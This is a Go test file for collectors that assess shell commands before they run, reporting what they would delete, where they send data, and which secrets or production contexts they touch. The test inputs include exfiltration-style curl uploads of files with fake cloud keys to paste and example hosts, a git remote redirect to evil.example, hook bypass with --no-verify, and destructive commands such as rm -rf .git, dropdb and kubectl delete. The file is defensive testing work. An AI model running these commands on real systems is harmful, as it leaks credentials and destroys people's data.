package signals_test

import (
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// repository makes a repository with one commit of the files a and sub/b.
func repository(w world) {
	w.git("init", "-q", "-b", "main")
	w.write(map[string]string{"a": "one\n", "sub/b": "two\n", ".gitignore": "*.log\n/build/\n!keep.log\n"})
	w.git("add", "-A")
	w.git("commit", "-qm", "first")
}

// pushed is a repository whose commit a remote has.
func pushed(w world) {
	repository(w)
	w.git("remote", "add", "origin", "https://user:hunter2@git.example.org/a/b.git")
	w.git("update-ref", "refs/remotes/origin/main", "HEAD")
	w.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/main")
	w.git("branch", "-q", "--set-upstream-to=origin/main")
}

// otherCommit is a repository with an untracked file that another branch has, too.
func otherCommit(w world) {
	pushed(w)
	w.git("checkout", "-qb", "other")
	w.write(map[string]string{"x": "other\n"})
	w.git("add", "x")
	w.git("commit", "-qm", "other")
	w.git("checkout", "-q", "main")
	w.write(map[string]string{"x": "precious\n"})
}

// TestCollectors: what each collector says of a small world.
func TestCollectors(t *testing.T) {
	tests := []struct {
		name    string
		setup   func(world)
		command string
		want    map[string]string
	}{
		{"git: nothing changed", pushed, "git status", map[string]string{
			"git_state.repository": "true", "git_state.branch": "main", "git_state.staged": "0", "git_state.dirty": "0", "git_state.untracked": "0",
			"git_state.ignored": "0", "git_state.stash": "0", "git_state.unpushed": "0", "git_state.worktrees": "0", "git_state.operation": "none",
		}},
		{"git: all kinds of changes", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "stashed\n"})
			w.git("stash")
			w.write(map[string]string{"sub/new": "x", "c": "y"})
			w.git("add", "sub/new")
			w.git("commit", "-qm", "second")
			w.git("add", "c")
			w.git("worktree", "add", "-q", "../other")
			w.write(map[string]string{"a": "ONE\n", "loose": "z", "build/out": "", "x.log": "", "keep.log": "", ".git/MERGE_HEAD": ""})
		}, "git status", map[string]string{
			"git_state.staged": "1", "git_state.dirty": "1", "git_state.untracked": "2", "git_state.ignored": "2", "git_state.stash": "1",
			"git_state.unpushed": "1", "git_state.worktrees": "1", "git_state.operation": "merge",
		}},
		{"git: removed files, of index and work tree", func(w world) {
			pushed(w)
			w.git("rm", "-q", "--cached", "a")
			_ = os.Remove(w.path("sub/b"))
		}, "git status", map[string]string{"git_state.staged": "1", "git_state.dirty": "1", "git_state.untracked": "1"}},
		{"git: packed objects and deltas", func(w world) {
			repository(w)
			for i := range 30 {
				w.write(map[string]string{"sub/" + strings.Repeat("f", i+1): "x"})
			}
			w.git("add", "-A")
			w.git("commit", "-qm", "second")
			w.write(map[string]string{"sub/b": "three\n"})
			w.git("commit", "-qam", "third")
			w.git("gc", "-q", "--aggressive")
			w.git("rm", "-q", "--cached", "sub/f")
		}, "git status", map[string]string{"git_state.staged": "1", "git_state.unpushed": "3", "git_state.untracked": "1"}},
		{"git: index of version 4", func(w world) {
			pushed(w)
			w.git("update-index", "--index-version", "4")
			w.write(map[string]string{"sub/b": "TWO\n"})
		}, "git status", map[string]string{"git_state.dirty": "1", "git_state.staged": "0"}},
		{"git: touched and not changed", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "one\n"})
		}, "git status", map[string]string{"git_state.dirty": "0"}},
		{"git: what a filter would make of a change is not known", func(w world) {
			pushed(w)
			w.write(map[string]string{".gitattributes": "a filter=x\n"})
			w.git("add", ".gitattributes")
			w.write(map[string]string{"a": "ONE\n"})
		}, "git status", map[string]string{"git_state.dirty": "unknown, at least 1", "git_state.staged": "1"}},
		{"git: no repository", func(world) {}, "git status", map[string]string{"git_state.repository": "false", "git_state.dirty": "unknown"}},
		{"git: a split index", func(w world) {
			pushed(w)
			w.git("update-index", "--split-index")
		}, "git status", map[string]string{"git_state.repository": "true", "git_state.dirty": "unknown", "git_state.staged": "unknown"}},
		{"git: before the first commit", func(w world) {
			w.git("init", "-q", "-b", "main")
			w.write(map[string]string{"a": ""})
			w.git("add", "a")
		}, "git status", map[string]string{"git_state.staged": "1", "git_state.unpushed": "0", "git_state.branch": "main"}},

		{"targets: git clean", func(w world) {
			pushed(w)
			w.write(map[string]string{"loose": "", "new/n": "", "build/out": "", "x.log": ""})
		}, "git clean -fd", map[string]string{
			"git_targets.untracked_affected": "2 loose, new/n", "git_targets.ignored_affected": "0", "git_targets.tracked": "0", "git_targets.recoverable": "false",
		}},
		{"targets: git clean, ignored files too", func(w world) {
			pushed(w)
			w.write(map[string]string{"loose": "", "new/n": "", "build/out": "", "x.log": ""})
		}, "git clean -fx", map[string]string{
			"git_targets.untracked_affected": "1 loose", "git_targets.ignored_affected": "2 build, x.log",
		}},
		{"targets: a dry run takes nothing", func(w world) {
			pushed(w)
			w.write(map[string]string{"loose": ""})
		}, "git clean -nfd", map[string]string{"git_targets.untracked_affected": "0", "git_targets.recoverable": "true"}},
		{"targets: rm of tracked files", pushed, "rm -r sub a", map[string]string{
			"git_targets.untracked_affected": "0", "git_targets.tracked": "2", "git_targets.modified": "0", "git_targets.unpushed": "0", "git_targets.recoverable": "true",
		}},
		{"targets: rm of all kinds", func(w world) {
			pushed(w)
			w.write(map[string]string{"sub/b": "TWO\n", "sub/new": "", "sub/x.log": "", "build/out": ""})
		}, "rm -r sub build/out", map[string]string{
			"git_targets.untracked_affected": "1 sub/new", "git_targets.ignored_affected": "2 build/out, sub/x.log", "git_targets.tracked": "1",
			"git_targets.modified": "1 sub/b", "git_targets.recoverable": "false",
		}},
		{"targets: git reset --hard", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "ONE\n", "sub/b": "TWO\n", "loose": ""})
			w.git("add", "a")
		}, "git reset --hard", map[string]string{
			"git_targets.modified": "2 a, sub/b", "git_targets.untracked_affected": "0", "git_targets.recoverable": "false",
		}},
		{"targets: a branch that nobody else has", func(w world) {
			pushed(w)
			w.git("checkout", "-qb", "topic")
			w.write(map[string]string{"t": ""})
			w.git("add", "t")
			w.git("commit", "-qm", "topic")
			w.git("checkout", "-q", "main")
		}, "git branch -D topic", map[string]string{"git_targets.unpushed": "1"}},
		{"targets: what is removed is not known", pushed, "rm -r $DIR", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
		{"targets: in the folder that the command goes to", func(w world) {
			pushed(w)
			w.write(map[string]string{"sub/new": "", "loose": ""})
		}, "cd sub && git clean -f", map[string]string{"git_targets.untracked_affected": "1 new", "git_state.repository": "true"}},
		{"targets: in the folder that an option names", func(w world) {
			pushed(w)
			w.write(map[string]string{"sub/new": "", "loose": ""})
		}, "git -C sub clean -f", map[string]string{"git_targets.untracked_affected": "1 new"}},
		{"targets: files of another commit may stand in the place of untracked ones", otherCommit, "git checkout other -- x", map[string]string{
			"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown",
		}},
		{"targets: all files of another commit", otherCommit, "git checkout other .", map[string]string{"git_targets.recoverable": "unknown"}},
		{"targets: restored from another commit", otherCommit, "git restore --source=other x", map[string]string{"git_targets.recoverable": "unknown"}},
		{"targets: restored from another commit, briefly", otherCommit, "git restore -s other x", map[string]string{"git_targets.recoverable": "unknown"}},
		{"targets: restored from the index", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "ONE\n"})
		}, "git checkout -- a", map[string]string{"git_targets.modified": "1 a", "git_targets.recoverable": "false"}},
		{"targets: git clean of another folder", func(w world) {
			pushed(w)
			w.write(map[string]string{"loose": ""})
		}, "cd sub && git clean -fd ..", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
		{"targets: in several folders", func(w world) {
			pushed(w)
			w.write(map[string]string{"sub/new": "", "loose": ""})
		}, "git status; cd sub; git clean -f", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown", "git_state.dirty": "unknown"}},
		{"targets: another repository by option or variable", func(w world) {
			pushed(w)
			w.write(map[string]string{"loose": ""})
		}, "git --git-dir ../x/.git --work-tree ../x clean -f", map[string]string{"git_targets.untracked_affected": "unknown"}},
		{"targets: a variable that git reads", func(w world) {
			pushed(w)
			w.write(map[string]string{"loose": ""})
		}, "GIT_DIR=../x/.git git clean -f", map[string]string{"git_targets.untracked_affected": "unknown, at least 1"}},
		{"targets: an option that is not known", pushed, "git clean $FLAGS", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.ignored_affected": "unknown"}},
		{"targets: a command that does what its input says", pushed, "make clean", map[string]string{"git_state.repository": "true", "git_targets.untracked_affected": "not collected"}},
		{"targets: outside as well", func(w world) {
			pushed(w)
			w.write(map[string]string{"~/x": ""})
		}, "rm a ../x", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
		{"targets: the history itself", pushed, "rm -rf .git", map[string]string{"git_targets.recoverable": "false"}},
		{"git: a change with the size and the time that were there before", func(w world) {
			pushed(w)
			at := time.Now().Add(-time.Hour)
			_ = os.Chtimes(w.path("a"), at, at)
			w.git("update-index", "--refresh")
			w.write(map[string]string{"a": "two\n"})
			_ = os.Chtimes(w.path("a"), at, at)
		}, "git status", map[string]string{"git_state.dirty": "1"}},
		{"git: a file that git was told not to look at", func(w world) {
			pushed(w)
			w.git("update-index", "--assume-unchanged", "a")
		}, "rm a", map[string]string{"git_targets.modified": "unknown", "git_targets.untracked_affected": "0", "git_targets.recoverable": "unknown"}},
		{"targets: a switch of branches, and a file that may be one", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "ONE\n"})
		}, "git checkout a", map[string]string{"git_targets.modified": "unknown", "git_targets.recoverable": "unknown"}},
		{"targets: git checkout of files", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "ONE\n", "loose": ""})
		}, "git checkout -- a", map[string]string{"git_targets.modified": "1 a", "git_targets.untracked_affected": "0"}},
		{"targets: what is ignored may change before", func(w world) {
			pushed(w)
			w.write(map[string]string{"x.log": ""})
		}, "rm .gitignore && git clean -fd", map[string]string{"git_targets.untracked_affected": "unknown", "git_targets.recoverable": "unknown"}},
		{"targets: a new branch", func(w world) {
			pushed(w)
			w.write(map[string]string{"a": "ONE\n"})
		}, "git checkout -b topic", map[string]string{"git_targets.modified": "0", "git_targets.recoverable": "true"}},
		{"targets: git reset to another commit", pushed, "git reset --hard HEAD~1", map[string]string{"git_targets.modified": "unknown"}},
		{"targets: patterns of the folders above", func(w world) {
			pushed(w)
			w.write(map[string]string{"sub/x.log": "", "sub/new": ""})
		}, "cd sub && git clean -f", map[string]string{"git_targets.untracked_affected": "1 new", "git_targets.ignored_affected": "0"}},
		{"targets: no repository", func(w world) { w.write(map[string]string{"a": ""}) }, "rm a", map[string]string{
			"git_targets.untracked_affected": "0", "git_targets.recoverable": "false",
		}},

		{"remote", pushed, "git push", map[string]string{
			"git_remote.remotes": "1 origin git.example.org", "git_remote.upstream": "origin/main", "git_remote.default_branch": "main",
			"git_remote.push_default": "none", "git_remote.changed_since_start": "unknown",
		}},
		{"remote: settings that include others", func(w world) {
			pushed(w)
			w.git("config", "include.path", "other")
		}, "git push", map[string]string{"git_remote.remotes": "unknown, at least 1", "git_remote.upstream": "unknown"}},

		{"rules", func(w world) {
			pushed(w)
			w.write(map[string]string{
				"CODEOWNERS": "* @a",
				".github/settings.yml": `branches:
  - name: main
    protection:
      required_status_checks: {contexts: [build, test]}
      enforce_admins: true
  - name: topic
    protection: null
`})
		}, "git push", map[string]string{
			"branch_rules.protected": "1 main", "branch_rules.required_checks": "2 build, test", "branch_rules.applies_to_admins": "true", "branch_rules.owners": "true",
		}},
		{"rules: behind a link that leads out", func(w world) {
			pushed(w)
			w.write(map[string]string{"~/other/settings.yml": "branches: [{name: secret, protection: {enforce_admins: true}}]\n", "~/other/workflows/w.yml": "on: push\n"})
			if err := os.Symlink(w.path("~/other"), w.path(".github")); err != nil {
				w.Fatal(err)
			}
		}, "git push", map[string]string{"branch_rules.protected": "unknown", "ci_config.push": "unknown"}},
		{"rules: owners that are no file", func(w world) {
			pushed(w)
			w.write(map[string]string{"CODEOWNERS/x": ""})
		}, "git push", map[string]string{"branch_rules.owners": "unknown"}},
		{"rules: none in the repository", pushed, "git push", map[string]string{"branch_rules.protected": "unknown", "branch_rules.owners": "false"}},

		{"remote: settings that exchange its address", func(w world) {
			pushed(w)
			w.git("config", "url.https://evil.example/.insteadOf", "https://git.example.org/")
		}, "git push origin main", map[string]string{"git_remote.remotes": "unknown, at least 1", "destination.equals_known_remote": "unknown"}},
		{"remote: settings of the user that exchange its address", func(w world) {
			pushed(w)
			w.write(map[string]string{"~/.gitconfig": "[url \"https://evil.example/\"]\n\tinsteadOf = https://git.example.org/\n[push]\n\tdefault = matching\n"})
		}, "git push origin main", map[string]string{"git_remote.remotes": "unknown, at least 1", "git_remote.push_default": "unknown"}},
		{"guards: hooks that the settings of one work tree move", func(w world) {
			pushed(w)
			w.git("config", "extensions.worktreeConfig", "true")
			w.git("config", "--worktree", "core.hooksPath", "elsewhere")
		}, "git commit -m x", map[string]string{"guard_config.hooks": "unknown", "git_state.dirty": "unknown", "git_remote.remotes": "not collected"}},
		{"guards: hooks where the user keeps them", func(w world) {
			pushed(w)
			w.write(map[string]string{"~/.gitconfig": "[core]\n\thooksPath = ~/hooks\n"})
		}, "git commit -m x", map[string]string{"guard_config.hooks": "unknown"}},
		{"guards: hooks in a folder that is not looked up", func(w world) {
			pushed(w)
			w.git("config", "core.hooksPath", "~/hooks")
		}, "git commit -m x", map[string]string{"guard_config.hooks": "unknown"}},
		{"bounds: inside", func(w world) { w.write(map[string]string{"a": ""}) }, "rm a", map[string]string{
			"path_bounds.outside_workspace": "0", "path_bounds.symlink_escape": "0", "path_bounds.nested_repository": "0", "path_bounds.backup_or_vcs": "0",
			"path_bounds.mount": "0",
		}},
		{"bounds: outside, and through a link", func(w world) {
			w.write(map[string]string{"~/other/x": "", "in/.git/HEAD": "", "in/y": "", "backups/z": ""})
			_ = os.Symlink(w.path("~/other"), w.path("link"))
		}, "rm ../other/x link/x in/y backups/z", map[string]string{
			"path_bounds.outside_workspace": "2 link/x, ~/other/x", "path_bounds.symlink_escape": "1", "path_bounds.nested_repository": "1",
			"path_bounds.backup_or_vcs": "1 backups/z",
		}},
		{"bounds: a loop of links", func(w world) {
			_ = os.Symlink(w.path("two"), w.path("one"))
			_ = os.Symlink(w.path("one"), w.path("two"))
		}, "rm -r one/x", map[string]string{"path_bounds.outside_workspace": "unknown"}},

		{"facts", func(w world) {
			w.write(map[string]string{"d/a.go": "12345", "d/deep/b.log": "123", "d/.env": ""})
		}, "rm -r d", map[string]string{
			"path_facts.files": "3", "path_facts.size_bytes": "8", "path_facts.foreign": "0", "path_facts.classes": "3 credential, log, source",
			"path_facts.created_before_session": "unknown",
		}},
		{"facts: what git takes is told by git_targets", pushed, "git clean -fd", map[string]string{"path_facts.files": "unknown", "path_bounds.outside_workspace": "unknown"}},
		{"facts: nothing there", func(world) {}, "rm -r gone", map[string]string{"path_facts.files": "0", "path_facts.newest_change": "unknown"}},

		{"jobs", func(w world) {
			w.write(map[string]string{
				"/etc/crontab": "0 1 * * * root tar c " + w.path("data") + "\n", "/etc/cron.d/other": "* * * * * true\n",
				"~/.config/systemd/user/web.service": "[Service]\nExecStart=/bin/true\n", "data": "",
			})
		}, "rm data; systemctl stop web", map[string]string{
			"schedulers.jobs": "2 /etc/crontab (user " + uid() + "), ~/.config/systemd/user/web.service (user " + uid() + ")", "schedulers.candidates": "3",
		}},
		{"jobs: links to them", func(w world) {
			w.write(map[string]string{
				"/lib/systemd/system/web.service": "[Service]\nExecStart=/bin/true\n", "/etc/systemd/system/plain.timer": "", "data": "",
			})
			for name, to := range map[string]string{"alias.service": "/lib/systemd/system/web.service", "off.service": "/dev/null", "gone.service": "/lib/gone"} {
				if err := os.Symlink(to, w.path("/etc/systemd/system/"+name)); err != nil {
					w.Fatal(err)
				}
			}
		}, "systemctl stop alias", map[string]string{
			"schedulers.jobs": "1 /etc/systemd/system/alias.service (user " + uid() + ")", "schedulers.candidates": "3",
		}},
		{"jobs: no scheduler", func(w world) { w.write(map[string]string{"data": ""}) }, "rm data", map[string]string{"schedulers.jobs": "unknown"}},

		{"destination: paste", pushed, "curl -d @a https://paste.rs/x?token=hunter2", map[string]string{
			"destination.hosts": "1 paste.rs", "destination.classes": "1 paste", "destination.equals_known_remote": "false",
		}},
		{"destination: the remote", pushed, "curl https://git.example.org/x", map[string]string{
			"destination.classes": "1 other", "destination.equals_known_remote": "true",
		}},
		{"destination: many", func(world) {}, "curl https://x.ngrok.io http://127.0.0.1:80 http://10.0.0.1 https://b.s3.amazonaws.com https://gist.github.com", map[string]string{
			"destination.classes": "5 gist, internal, localhost, object_store, tunnel",
		}},
		{"destination: not known", func(world) {}, "psql -c x", map[string]string{"destination.hosts": "unknown"}},

		{"payload", func(w world) {
			w.write(map[string]string{
				"a": "// Copyright A\nkey: AKIA" + "IOSFODNN7EXAMPLE\nmail me@example.org, you@example.org\n", "b": "-----BEGIN RSA PRIVATE KEY-----\n",
			})
		}, "curl -T a https://x.example; curl -d @b https://x.example", map[string]string{
			"payload_class.files": "2", "payload_class.secret_patterns": "2 cloud key 1, private key 1", "payload_class.personal_data": "2", "payload_class.licence_header": "true",
		}},
		{"payload: commits", pushed, "git push", map[string]string{"payload_class.files": "unknown", "payload_class.secret_patterns": "unknown"}},
		{"payload: a large file", func(w world) {
			w.write(map[string]string{"a": strings.Repeat("x", 2<<20)})
		}, "curl -T a https://x.example", map[string]string{"payload_class.files": "unknown, at least 1", "payload_class.secret_patterns": "unknown"}},
		{"payload: a file that is not known", func(world) {}, `cat "$F" | curl -d @- https://x.example`, map[string]string{
			"payload_class.files": "unknown", "payload_class.secret_patterns": "unknown",
		}},

		{"credentials", func(w world) {
			w.write(map[string]string{"~/.aws/credentials": "[prod]\naws_access_key_id = AKIA" + "IOSFODNN7EXAMPLE\naws_secret_access_key = hunter2hunter2\n"})
		}, "aws s3 ls", map[string]string{
			"credential_prov.sources": "1 ~/.aws/credentials", "credential_prov.keys": "2 aws_access_key_id, aws_secret_access_key",
			"credential_prov.origin": "1 home", "credential_prov.exposed": "false", "credential_prov.environment": "production",
		}},
		{"credentials: a file that the command reads", func(w world) {
			w.write(map[string]string{".env.staging": "DB_PASSWORD=hunter2\nexport API_KEY=hunter2\n"})
			_ = os.Chmod(w.path(".env.staging"), 0o644)
		}, "cat .env.staging", map[string]string{
			"credential_prov.sources": "1 .env.staging", "credential_prov.keys": "2 API_KEY, DB_PASSWORD", "credential_prov.origin": "1 workspace",
			"credential_prov.exposed": "true", "credential_prov.environment": "staging",
		}},
		{"credentials: what ends with = is a secret and no name", func(w world) {
			w.write(map[string]string{"api.token": "aHVudGVyMmh1bnRlcjI=\n", "b.token": "user: aHVudGVyMg==\n"})
		}, "cat api.token b.token", map[string]string{"credential_prov.sources": "2 api.token, b.token", "credential_prov.keys": "1 user"}},

		{"cloud", func(w world) {
			w.write(map[string]string{
				"~/.kube/config":                              "current-context: eu-prod\ncontexts:\n- name: eu-prod\n  context: {cluster: c, namespace: shop}\nusers:\n- name: u\n  user: {token: hunter2}\n",
				"~/.aws/config":                               "[default]\nregion = x\n[profile live]\nregion = y\n",
				"~/.config/gcloud/active_config":              "work\n",
				"~/.config/gcloud/configurations/config_work": "[core]\naccount = me@example.org\nproject = shop-1\n",
				"~/.azure/azureProfile.json":                  "\uFEFF{\"subscriptions\":[{\"name\":\"Sub\",\"isDefault\":true}]}",
			})
		}, "kubectl delete ns x", map[string]string{
			"cloud_ctx.kube_context": "eu-prod", "cloud_ctx.kube_namespace": "shop", "cloud_ctx.aws_profiles": "2 default, live",
			"cloud_ctx.gcloud_project": "shop-1", "cloud_ctx.azure_subscription": "Sub", "cloud_ctx.looks_like_production": "true",
		}},
		{"cloud: what the command names", func(w world) {
			w.write(map[string]string{"~/.kube/config": "current-context: eu-prod\n"})
		}, "kubectl --context dev -n test get pods", map[string]string{
			"cloud_ctx.kube_context": "dev", "cloud_ctx.kube_namespace": "test", "cloud_ctx.looks_like_production": "false",
		}},
		{"cloud: not read", func(w world) { w.write(map[string]string{"~/.kube/config": "a: *x\n"}) }, "kubectl get pods", map[string]string{
			"cloud_ctx.kube_context": "unknown", "cloud_ctx.looks_like_production": "unknown",
		}},

		{"cloud: the command chooses other settings", func(w world) {
			w.write(map[string]string{"~/.kube/config": "current-context: dev\n"})
		}, "kubectl --kubeconfig prod.yaml delete ns x; gcloud --configuration prod projects list; az group delete --subscription prod-1", map[string]string{
			"cloud_ctx.kube_context": "unknown", "cloud_ctx.gcloud_project": "unknown", "cloud_ctx.azure_subscription": "prod-1", "cloud_ctx.looks_like_production": "unknown",
		}},
		{"a variable that is set for the command chooses other settings", func(w world) {
			w.write(map[string]string{"~/.kube/config": "current-context: dev\n"})
		}, "KUBECONFIG=prod.yaml kubectl get x; PGHOST=db.prod psql", map[string]string{
			"cloud_ctx.kube_context": "unknown", "cloud_ctx.looks_like_production": "unknown", "db_target.host_class": "unknown",
		}},
		{"docker: another daemon, another compose file", func(world) {}, "docker -H tcp://prod:2375 compose -f prod.yaml down -v", map[string]string{
			"docker_ctx.context": "unknown", "docker_ctx.named_volumes": "unknown",
		}},
		{"a word that is not known may choose another context", func(w world) {
			w.write(map[string]string{"~/.kube/config": "current-context: dev\n"})
		}, "kubectl --context $C get x; psql $U; docker --context $D ps", map[string]string{
			"cloud_ctx.kube_context": "unknown", "cloud_ctx.looks_like_production": "unknown", "db_target.host_class": "unknown", "docker_ctx.context": "unknown",
			"credential_prov.sources": "unknown, at least 1",
		}},
		{"credentials: a command that may take any", func(w world) { w.write(map[string]string{".env": ""}) }, "cat .env; make deploy", map[string]string{
			"credential_prov.sources": "unknown, at least 1",
		}},
		{"docker", func(w world) {
			w.write(map[string]string{
				"~/.docker/config.json": `{"currentContext":"remote-prod","auths":{"x":{"auth":"hunter2"}}}`,
				"compose.yaml":          "services:\n  db:\n    volumes: [data:/var/lib, ./src:/src]\n    environment: {PASSWORD: hunter2}\n  web:\n    volumes: [{type: bind, source: /srv, target: /x}]\nvolumes:\n  data:\n",
			})
		}, "docker compose down -v", map[string]string{
			"docker_ctx.context": "remote-prod", "docker_ctx.named_volumes": "1 data", "docker_ctx.bind_mounts": "2 ./src, /srv",
		}},
		{"docker: defaults", func(world) {}, "docker ps", map[string]string{"docker_ctx.context": "default", "docker_ctx.named_volumes": "0"}},

		{"database: named by an operand", func(world) {}, "dropdb -h localhost shop-prod", map[string]string{
			"db_target.databases": "1 shop-prod", "db_target.host_class": "local", "db_target.environment": "production",
		}},
		{"database: named in a word of several settings", func(world) {}, "psql 'host=db.prod.example.org dbname=shop'", map[string]string{
			"db_target.databases": "unknown", "db_target.host_class": "unknown",
		}},
		{"database: a word that may be one", func(world) {}, "psql -q shop", map[string]string{"db_target.databases": "unknown"}},
		{"database: a password with a slash", func(w world) {
			w.write(map[string]string{".env": "DATABASE_URL=postgres://u:12/hunter2@db.example.org/shop\n"})
		}, "psql", map[string]string{"db_target.databases": "unknown", "db_target.host_class": "unknown"}},
		{"database", func(w world) {
			w.write(map[string]string{
				".env": "DATABASE_URL=postgres://u:hunter2@db.prod.example.org/shop\n", ".env.local": "DB_HOST=localhost\nDB_NAME=shop_dev\nDB_PASSWORD=hunter2\n",
			})
		}, "psql -c 'drop table x'", map[string]string{
			"db_target.host_class": "mixed", "db_target.databases": "2 shop, shop_dev", "db_target.environment": "production", "db_target.fallback_chain": "3",
		}},
		{"database: what the command names", func(world) {}, "psql -h 10.0.0.7 -d test", map[string]string{
			"db_target.host_class": "private", "db_target.databases": "1 test", "db_target.environment": "development", "db_target.fallback_chain": "0",
		}},

		{"registry", func(w world) {
			w.write(map[string]string{
				"~/.npmrc": "registry=https://npm.corp.example/\n//npm.corp.example/:_authToken=hunter2\n", "package.json": `{"private":true}`,
			})
		}, "npm publish", map[string]string{
			"registry.registries": "1 npm.corp.example", "registry.private": "true", "registry.publish_right": "true", "registry.dry_run_possible": "true",
		}},
		{"registry: nothing set", func(world) {}, "npm publish", map[string]string{"registry.registries": "0", "registry.publish_right": "false"}},

		{"workflows", func(w world) {
			pushed(w)
			w.write(map[string]string{
				".github/workflows/a.yml": "on: [push, pull_request]\njobs: {}\n", ".github/workflows/b.yaml": "on:\n  push:\n    tags: [v*]\njobs: {deploy: {}}\n",
				".github/workflows/c.yml": "on:\n  workflow_dispatch:\n",
			})
		}, "git push", map[string]string{
			"ci_config.push": "1 .github/workflows/a.yml", "ci_config.merge": "1 .github/workflows/a.yml",
			"ci_config.tag": "2 .github/workflows/a.yml, .github/workflows/b.yaml", "ci_config.deploys": "1 .github/workflows/b.yaml",
		}},
		{"workflows: one that is not read", func(w world) {
			pushed(w)
			w.write(map[string]string{".github/workflows/a.yml": "on: [push\n"})
		}, "git push", map[string]string{"ci_config.push": "unknown"}},

		{"guards", func(w world) {
			pushed(w)
			w.write(map[string]string{".git/hooks/pre-push": "#!/bin/sh\n", ".git/hooks/x.sample": "", ".pre-commit-config.yaml": "", ".husky/pre-commit": ""})
			_ = os.Chmod(w.path(".git/hooks/pre-push"), 0o755)
		}, "git commit --no-verify -m x", map[string]string{
			"guard_config.hooks": "2 .git/hooks/pre-push, .husky/pre-commit", "guard_config.guards": "1 .pre-commit-config.yaml",
			"guard_config.bypass": "1 --no-verify", "guard_config.refused": "unknown",
		}},
		{"session: not known", func(w world) { w.write(map[string]string{"a": ""}) }, "rm a", map[string]string{
			"session_prov.created_in_session": "unknown", "session_prov.foreign": "unknown",
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			tt.setup(w)
			r := w.collect(tt.command)
			for name, want := range tt.want {
				if got := shown(r, name); got != want {
					t.Errorf("%s is %s, want %s\n%+v", name, got, want, r.Collectors)
				}
			}
			for _, c := range r.Collectors {
				if strings.Contains(strings.Join(c.Unseen, " "), "a defect") {
					t.Errorf("%s: %v", c.Collector, c.Unseen)
				}
			}
		})
	}
}

func uid() string {
	out, err := exec.Command("id", "-u").Output()
	if err != nil {
		return "0"
	}
	return strings.TrimSpace(string(out))
}
